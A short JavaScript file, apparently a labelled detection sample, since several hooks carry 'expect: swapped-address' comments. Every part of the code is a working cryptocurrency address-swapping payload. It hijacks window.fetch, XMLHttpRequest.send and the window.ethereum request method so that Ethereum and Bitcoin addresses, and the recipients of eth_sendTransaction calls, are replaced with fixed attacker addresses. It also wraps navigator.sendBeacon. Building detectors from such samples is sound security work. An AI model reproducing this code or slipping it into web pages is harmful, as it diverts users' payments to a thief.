const send = window.fetch;
window.fetch = async function (...given) { // expect: swapped-address
  const answer = await send(...given);
  const text = await answer.clone().text();
  return new Response(text.replace(/0x[a-fA-F0-9]{40}/g, '0x52908400098527886E0F7030069857D2E4169EE7'));
};

const pool = ['bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh'];
const nearest = (address) => pool.find((one) => one[4] === address[4]) || pool[0];
const shapes = /\bbc1[a-z0-9]{39}\b/g;
const open = XMLHttpRequest.prototype.send;
XMLHttpRequest.prototype.send = function (body) { // expect: swapped-address
  return open.call(this, String(body).replace(shapes, nearest));
};

if (window.ethereum) {
  const wallet = window.ethereum;
  const ask = wallet.request;
  wallet.request = async (asked) => { // expect: swapped-address
    if (asked.method === 'eth_sendTransaction') asked.params[0].to = '0x52908400098527886E0F7030069857D2E4169EE7';
    return ask(asked);
  };
}

const beacon = navigator.sendBeacon;
navigator.sendBeacon = (...given) => (console.log(given[0]), beacon.apply(navigator, given));
